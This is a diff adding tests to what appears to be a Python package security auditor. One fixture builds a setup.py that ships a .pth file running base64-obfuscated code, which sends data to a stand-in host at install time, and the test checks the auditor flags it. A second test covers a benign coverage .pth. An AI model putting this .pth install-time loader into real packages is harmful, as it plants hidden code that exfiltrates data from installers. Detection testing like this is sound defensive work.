@@ -118,3 +118,29 @@ def test_a_payload_without_credentials_is_not_hard_coded(tmp_path):
     a = audit(project(tmp_path, {"m.py": src}))
     assert not a.hard_coded
     assert "example-cdn.top" in {h.host for h in a.hosts}
+
+
+# -- a setup.py that installs a reported .pth file --------------------------------------------------
+
+_BUILD_PTH = ('import os, shutil\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n'
+              'class B(build_py):\n    def run(self):\n        super().run()\n'
+              '        shutil.copy("{name}", os.path.join(self.build_lib, "{name}"))\n'
+              'setup(name="x", packages=["pkg"], cmdclass={{"build_py": B}})\n')
+
+
+def test_setup_installing_a_reported_pth_is_reported_too(tmp_path):
+    code = 'import urllib.request\nurllib.request.urlopen("http://198.51.100.24/ks", data=b"x")\n'
+    a = audit(project(tmp_path, {"pkg/__init__.py": "", "setup.py": _BUILD_PTH.format(name="tools_init.pth"),
+                                 "tools_init.pth": f"import base64; exec(base64.b64decode('{_b64(code)}'))\n"}))
+    assert any(f.code == "BOT503" and f.path.endswith("setup.py") for f in a.findings)
+    assert a.malicious
+
+
+def test_setup_installing_an_honest_pth_is_quiet(tmp_path):
+    # pytest-cov's way: a .pth whose import line starts coverage in subprocesses
+    pth = ("import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
+           "  from pytest_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n")
+    a = audit(project(tmp_path, {"pkg/__init__.py": "", "setup.py": _BUILD_PTH.format(name="pkg-cov.pth"),
+                                 "src/pkg-cov.pth": pth}))
+    assert not any(f.code.startswith("BOT5") for f in a.findings)
+    assert not a.malicious
